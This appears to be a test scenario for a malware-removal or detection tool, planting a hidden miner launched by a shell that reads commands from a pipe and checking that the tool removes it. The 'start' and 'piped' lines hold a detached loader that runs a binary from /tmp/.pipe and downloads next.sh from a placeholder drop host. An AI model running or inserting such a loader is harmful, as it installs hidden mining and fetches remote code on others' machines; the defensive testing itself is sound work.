import { scenario } from '../scenario.ts';
import { dropHost, minerWords, removed } from '../words.ts';

const piped = `printf "%s\\n" "/tmp/.pipe/zigw ${minerWords} &" "curl -fsSL http://${dropHost}/next.sh -o /tmp/.pipe/n" | sh`;

export default scenario({
  what: 'a loader that is read from a pipe',
  report: '`curl … | sh` leaves a shell without a file: its words are in no script.',
  plant: {
    images: ['/tmp/.pipe/zigw'],
    start: `(exec setsid sh -c '${piped}' >/dev/null 2>&1 </dev/null) &`,
    runs: ['/tmp/.pipe/zigw', 'next.sh'],
  },
  expect: removed('/tmp/.pipe/zigw', [], {
    // The shell around it covers the one that reads the pipe, and its download.
    ticked: {
      processes: [`sh -c ${piped}`, '/tmp/.pipe/zigw'],
      files: ['/tmp/.pipe/zigw'],
    },
  }),
});
